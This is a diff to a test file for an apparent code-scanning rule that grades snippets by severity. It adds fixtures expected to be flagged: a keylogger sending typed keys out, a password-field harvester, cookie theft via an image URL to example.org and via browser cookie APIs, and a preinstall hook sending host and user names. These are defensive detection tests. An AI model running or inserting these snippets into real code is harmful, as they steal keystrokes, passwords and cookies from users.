@@ -20,6 +20,19 @@ test("bad: what it looks for", () => {
   ]) assert.equal(worst(code), 'critical', code);
 });
 
+test('bad: what is typed, cookies, and who installs it', () => {
+  assert.equal(worst("let typed = \"\"; document.addEventListener(\"keydown\", (e) => { typed += e.key; fetch(u, { body: typed }) })"), 'critical');
+  assert.equal(worst("const v = [...document.querySelectorAll(\"input[type=password]\")].map((f) => f.value); navigator.sendBeacon(u, v.join())"), 'critical');
+  for (const code of [
+    "new Image().src = \"https://example.org/?c=\" + document.cookie",
+    "chrome.cookies.getAll({}, (all) => fetch(u, { body: JSON.stringify(all) }))",
+    "const all = await browser.cookies.getAll({}); fetch(u, { body: JSON.stringify(all) })",
+  ]) assert.equal(worst(code), 'high', code);
+  const files = { 'a.js': 'const os = require("os"); fetch(u, { body: os.hostname() + os.userInfo().username })' };
+  const severities = (scripts: Record<string, string>) => findingsOf(rule, files, { original: { scripts } }).map(({ severity }) => severity);
+  assert.deepEqual([severities({ preinstall: 'node a.js' }), severities({ test: 'node a.js' })], [['high'], ['low']]);
+});
+
 test("bad: the same in Python", () => {
   for (const code of [
     "import os, requests\nrequests.post(u, json=dict(os.environ))",
@@ -36,6 +49,9 @@ test("good: what only looks like it", () => {
     "const config = { ...process.env }; start(config); fetch(\"https://example.org\")",
     "fs.readFileSync(\"data.json\"); fetch(u, { body: data })",
     "spawn(\"x\", { env: process.env })",
+    "const id = /id=(\\w+)/.exec(document.cookie)[1]; picture.src = \"a.png\"",
+    "const c = document.cookie.split(\";\")[0]; fetch(u, { headers: { c } })",
+    "document.querySelector(\"input[type=text]\").value = x; fetch(u, { body: x })",
   ]) assert.equal(worst(code), 'nothing', code);
 });
 
